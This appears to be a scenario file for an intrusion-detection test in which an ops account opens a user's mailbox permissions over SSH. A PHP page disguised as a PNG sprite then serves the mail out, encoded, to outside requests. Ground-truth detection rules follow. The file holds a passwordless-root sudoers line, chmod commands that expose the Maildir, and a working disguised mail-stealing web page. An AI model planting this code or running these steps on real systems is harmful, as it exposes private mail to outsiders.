title="Modes of a mailbox are opened; two days later the web server's account packs it"
what="ops's account, used from 203.0.113.77 over SSH without a terminal, opens the modes of buyer's home and Maildir for everyone by sudo chmod. Two days later php of the web site, as www-data, is asked three times from outside for a page that reads the letters and prints them as a picture's bytes. No tool but chmod and php."
user=ops daemons="cron sshd"
shift_plan="d1:2d d2:3h"
setup() {
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  mkdir -p /opt/site/img; echo '<?php echo "hello\n";' > /opt/site/index.php
  printf '<?php header("Content-Type: image/png"); foreach (glob("/home/*/Maildir/{new,cur}/*", GLOB_BRACE) as $i => $f) { if ($i %% 3 == $_GET["p"] && is_readable($f)) echo strrev(base64_encode(file_get_contents($f))); }\n' > /opt/site/img/sprite.php
  chown -R www-data: /opt/site
}
act() {
  phase d1
  letters buyer 7; small_talk 3
  outside ssh -T -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.77 -i /root/key "ops@$host_ip" 'sudo chmod o+x /home/buyer && sudo chmod -R o+rX /home/buyer/Maildir' </dev/null
  service www-data php -S 0.0.0.0:8080 -t /opt/site; sleep 1
  outside curl -s "http://$host_ip:8080/index.php" >/dev/null
  sleep 1
  phase d2
  small_talk 2; outside curl -s "http://$host_ip:8080/index.php" >/dev/null
  for p in 0 1 2; do outside curl -s "http://$host_ip:8080/img/sprite.php?p=$p" >/dev/null; sleep 1; done
  small_talk 1
}
truth() {
  exec_step modes 'chmod -R o\+rX /home/buyer/Maildir' 'opened for everyone'
  file_step read 'php.* open(at)?:read NORMAL .*Maildir/new/' 'read by the web server'
}
